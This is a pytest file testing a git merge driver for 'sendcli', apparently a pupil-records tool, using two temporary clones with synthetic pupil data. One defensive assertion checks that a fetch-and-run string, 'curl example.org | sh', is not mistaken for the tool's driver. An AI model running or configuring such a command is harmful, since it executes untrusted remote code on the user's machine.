"""Two people, two clones, one record: what git does with the merge that `send init` sets up."""

from __future__ import annotations

import os
import subprocess
import sys
from pathlib import Path

import pytest

from sendcli.store.merging import DRIVER, driver, is_driver

PLAN = "kind: sen-support\ntargets:\n- id: reading\n  readings:\n    2026-09-14: 41\n"
LOG = "entries:\n- {date: 2026-09-20, kind: note, summary: First}\n"
PUPIL = "name: Ash\nstatus:\n- {from: 2026-01-15, provision: K}\n"
FILES = {"plans/2026 autumn.yaml": PLAN, "log.yaml": LOG, "pupil.yaml": PUPIL}
HERE = "records/pupils/ab-0001"


class Clone:
    """One person's clone."""

    def __init__(self, folder: Path) -> None:
        self.folder = folder

    def git(self, *words: str, fails: bool = False) -> str:
        done = subprocess.run(
            ["git", "-C", str(self.folder), *words], capture_output=True, text=True, env=_environment(), check=False
        )
        assert bool(done.returncode) == fails, done.stdout + done.stderr
        return done.stdout

    def text(self, name: str) -> str:
        return (self.folder / HERE / name).read_text(encoding="utf-8")

    def change(self, name: str, old: str, new: str) -> None:
        place = self.folder / HERE / name
        text = place.read_text(encoding="utf-8")
        assert text.count(old) == 1
        place.write_text(text.replace(old, new), encoding="utf-8", newline="\n")
        self.git("commit", "-qam", "change")


def _environment() -> dict[str, str]:
    kept = {name: value for name, value in os.environ.items() if not name.startswith("GIT_")}
    who = {f"GIT_{role}_{what}": "t@example.org" for role in ("AUTHOR", "COMMITTER") for what in ("NAME", "EMAIL")}
    return kept | who | {"GIT_CONFIG_GLOBAL": os.devnull, "GIT_CONFIG_SYSTEM": os.devnull, "PATH": os.defpath}


@pytest.fixture
def clones(tmp_path: Path) -> tuple[Clone, Clone]:
    """Two clones in folders with spaces, without `send` on the PATH."""
    first = Clone(tmp_path / "first one")
    first.folder.mkdir()
    first.git("init", "-q", "-b", "main")
    for name, text in FILES.items():
        place = first.folder / HERE / name
        place.parent.mkdir(parents=True, exist_ok=True)
        place.write_text(text, encoding="utf-8", newline="\n")
    (first.folder / ".gitattributes").write_text("records/**/*.yaml merge=send\n", encoding="utf-8")
    first.git("add", "-A")
    first.git("commit", "-qm", "start")
    first.git("clone", "-q", ".", str(tmp_path / "second one"))
    second = Clone(tmp_path / "second one")
    for clone in (first, second):
        clone.git("config", DRIVER, driver(sys.executable))
    return first, second


ADDED = {
    "a reading": ("plans/2026 autumn.yaml", "    2026-09-14: 41\n", "    2026-11-20: 43\n", "    2026-11-13: 42\n"),
    "a log entry": ("log.yaml", "summary: First}\n", "- {date: 2026-11-20, kind: note, summary: Second}\n",
                    "- {date: 2026-11-13, kind: contact, summary: Third}\n"),
    "a status row": ("pupil.yaml", "provision: K}\n", "- {from: 2026-11-20, provision: E}\n",
                     "- {from: 2026-11-13, provision: N}\n"),
}  # fmt: skip


@pytest.mark.parametrize(("name", "last", "later", "sooner"), ADDED.values(), ids=ADDED)
def test_both_append_and_both_stay(clones, name: str, last: str, later: str, sooner: str) -> None:
    first, second = clones
    first.change(name, last, last + later)
    second.change(name, last, last + sooner)
    second.git("pull", "-q", "--no-rebase", "--no-edit")
    assert second.text(name) == FILES[name].replace(last, last + sooner + later)


def test_a_rebase_puts_them_together_too(clones) -> None:
    first, second = clones
    first.change("log.yaml", "First}\n", "First}\n- {date: 2026-11-20, kind: note, summary: Second}\n")
    second.change("log.yaml", "First}\n", "First}\n- {date: 2026-11-13, kind: note, summary: Third}\n")
    second.git("pull", "-q", "--rebase")
    assert [line[-7:-1] for line in second.text("log.yaml").splitlines()[1:]] == [" First", " Third", "Second"]


def test_the_same_reading_corrected_twice_is_a_conflict_with_marks(clones) -> None:
    first, second = clones
    first.change("plans/2026 autumn.yaml", ": 41", ": 42")
    second.change("plans/2026 autumn.yaml", ": 41", ": 40")
    second.git("pull", "-q", "--no-rebase", "--no-edit", fails=True)
    assert "UU " in second.git("status", "--porcelain")
    middle = "<<<<<<< ours\n    2026-09-14: 40\n=======\n    2026-09-14: 42\n>>>>>>> theirs\n"
    assert second.text("plans/2026 autumn.yaml") == PLAN.replace("    2026-09-14: 41\n", middle)


def test_what_git_would_merge_wrongly_gets_marks_too(clones) -> None:
    """The same field at the top and at the bottom: git alone keeps both lines."""
    first, second = clones
    first.change("log.yaml", "entries:", "lead: okafor\nentries:")
    second.change("log.yaml", "First}\n", "First}\nlead: lund\n")
    second.git("pull", "-q", "--no-rebase", "--no-edit", fails=True)
    marks = [line for line in second.text("log.yaml").splitlines() if line[:7] in ("<<<<<<<", "=======", ">>>>>>>")]
    assert marks == ["<<<<<<< ours", "=======", ">>>>>>> theirs"]
    assert {"lead: okafor", "lead: lund"} < set(second.text("log.yaml").splitlines())


@pytest.mark.parametrize("program", ["/nowhere/python", "false"])
def test_without_send_git_merges_line_by_line_and_no_side_is_lost(clones, program: str) -> None:
    first, second = clones
    second.git("config", DRIVER, driver(program))
    first.change("log.yaml", "First}\n", "First}\n- {date: 2026-11-20, kind: note, summary: Second}\n")
    second.change("log.yaml", "First}\n", "First}\n- {date: 2026-11-13, kind: note, summary: Third}\n")
    second.git("pull", "-q", "--no-rebase", "--no-edit", fails=True)
    assert all(word in second.text("log.yaml") for word in ("First", "Second", "Third", "<<<<<<<", ">>>>>>>"))


def test_init_sets_it_up(send, tmp_path: Path) -> None:
    assert send("init", str(tmp_path / "new school")).code == 0
    made = Clone(tmp_path / "new school")
    assert made.git("config", "--local", DRIVER) == driver(sys.executable) + "\n"
    assert made.git("check-attr", "merge", "records/pupils/ab-0001/log.yaml").endswith(": merge: send\n")
    assert made.git("check-attr", "merge", "records/school.yaml").endswith(": merge: send\n")


def test_a_driver_of_another_program_is_not_taken_for_it() -> None:
    assert is_driver(driver("C:\\Program Files\\it's 100%\\python.exe"))
    assert not is_driver("curl example.org | sh # merge-driver")


def test_the_command_writes_over_ours(send, folder: Path) -> None:
    versions = {
        "b": LOG,
        "o o": LOG + "- {date: 2026-11-20, kind: note}\n",
        "t": LOG + "- {date: 2026-11-13, kind: note}\n",
    }
    for name, text in versions.items():
        (folder / name).write_text(text, encoding="utf-8", newline="\n")
    done = send("merge-driver", "b", "o o", "t", "records/log.yaml")
    assert (done.code, done.out, done.err) == (0, "", "")
    days = [line[9:19] for line in (folder / "o o").read_text(encoding="utf-8").splitlines()[1:]]
    assert days == ["2026-09-20", "2026-11-13", "2026-11-20"]


def test_a_file_that_is_no_text_stays_as_it_was(send, folder: Path) -> None:
    for name, data in {"b": b"a: x\n", "o": b"a: y\n", "t": b"\0\0"}.items():
        (folder / name).write_bytes(data)
    done = send("merge-driver", "b", "o", "t", "records/x.yaml")
    assert (done.code, done.out) == (1, "")
    assert "records/x.yaml" in done.err
    assert (folder / "o").read_bytes() == b"a: y\n"


def test_both_sides_of_an_unreadable_text_stay_between_marks(send, folder: Path) -> None:
    for name, data in {"b": b"a: x\n", "o": b"a: x\nb: [\n", "t": b"c: 1\na: x\n"}.items():
        (folder / name).write_bytes(data)
    done = send("merge-driver", "b", "o", "t", "records/x.yaml")
    assert done.code == 1
    assert (folder / "o").read_bytes() == b"<<<<<<< ours\na: x\nb: [\n=======\nc: 1\na: x\n>>>>>>> theirs\n"


def test_an_encrypted_file_is_git_s_own_conflict(clones) -> None:
    first, second = clones
    for clone, last in ((first, b"1"), (second, b"2")):
        (clone.folder / HERE / "log.yaml").write_bytes(b"\0GITCRYPT\0" + last)
        clone.git("commit", "-qam", "change")
    second.git("pull", "-q", "--no-rebase", "--no-edit", fails=True)
    assert "UU " in second.git("status", "--porcelain")
    assert (second.folder / HERE / "log.yaml").read_bytes() == b"\0GITCRYPT\0002"
